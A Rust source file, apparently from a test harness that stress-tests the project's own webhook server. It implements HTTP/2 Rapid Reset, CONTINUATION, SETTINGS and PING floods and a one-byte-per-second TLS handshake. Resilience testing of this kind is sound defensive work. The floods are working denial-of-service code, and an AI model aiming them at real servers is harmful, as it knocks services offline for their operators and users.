//! Floods of frames that cost the attacker little, and handshakes that do not end.

use std::{sync::Arc, time::Duration};

use injectd_harness::{
    expect::Outcome,
    http2::{CANCEL, CONTINUATION, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, frame},
    tls::tls_config,
};
use rustls::{ClientConnection, pki_types::ServerName, version::TLS13};
use tokio::{
    io::{AsyncWriteExt as _, copy, sink, split},
    net::TcpStream,
    time::interval,
};

use super::{crowd::Attacker, held::head};

/// Frames in one write of a flood.
// One frame in each write would be limited by system calls of the attacker.
const BATCH: u32 = 200;

/// Sends frames as fast as the server takes them: first these, then what `block` makes.
async fn flood(it: &Attacker, first: &[u8], mut block: impl FnMut() -> Vec<u8>) -> Outcome {
    let begin = [PREFACE, &frame(SETTINGS, 0, 0, &[]), first].concat();
    let mut dropped = sink();
    let (mut read, mut write) = split(it.place.webhook().connect(&["h2"]).await?);
    let sends = async {
        write.write_all(&begin).await?;
        loop {
            let block = block();
            write.write_all(&block).await?;
            it.counts.add("KiB", block.len() >> 10);
        }
    };
    tokio::select! {
        sent = sends => sent,
        // What the server sends is dropped.
        ended = copy(&mut read, &mut dropped) => Ok(ended.map(drop)?),
    }
}

/// Streams that are reset at once.
pub(super) async fn rapid_reset(it: &Attacker) -> Outcome {
    let mut stream = 1;
    flood(it, &[], || {
        let pairs = (0..BATCH).flat_map(|_| {
            let reset = frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            let pair = [head(stream, 0, None), reset].concat();
            stream += 2;
            pair
        });
        pairs.collect()
    })
    .await
}

/// A header block without an end.
pub(super) async fn continuations(it: &Attacker) -> Outcome {
    let block = frame(CONTINUATION, 0, 1, b"\0\x01a\x01b").repeat(BATCH as usize);
    flood(it, &frame(HEADERS, 0, 1, &[]), || block.clone()).await
}

/// SETTINGS, each of which the server must acknowledge.
pub(super) async fn settings(it: &Attacker) -> Outcome {
    let block = frame(SETTINGS, 0, 0, &[]).repeat(BATCH as usize);
    flood(it, &[], || block.clone()).await
}

/// PING, each of which the server must answer.
pub(super) async fn pings(it: &Attacker) -> Outcome {
    let block = frame(PING, 0, 0, b"attacker").repeat(BATCH as usize);
    flood(it, &[], || block.clone()).await
}

/// A handshake that sends its first message at one byte per second.
pub(super) async fn half_handshake(it: &Attacker) -> Outcome {
    let server = it.place.webhook();
    let name = ServerName::try_from(server.server_name.to_owned())?;
    let config = Arc::new(tls_config(server.ca, &[&TLS13])?);
    let mut hello = Vec::new();
    ClientConnection::new(config, name)?.write_tls(&mut hello)?;
    let mut stream = TcpStream::connect(server.addr).await?;
    it.counts.add("handshakes", 1);
    let mut each_second = interval(Duration::from_secs(1));
    for byte in hello {
        each_second.tick().await;
        stream.write_all(&[byte]).await?;
    }
    Ok(())
}
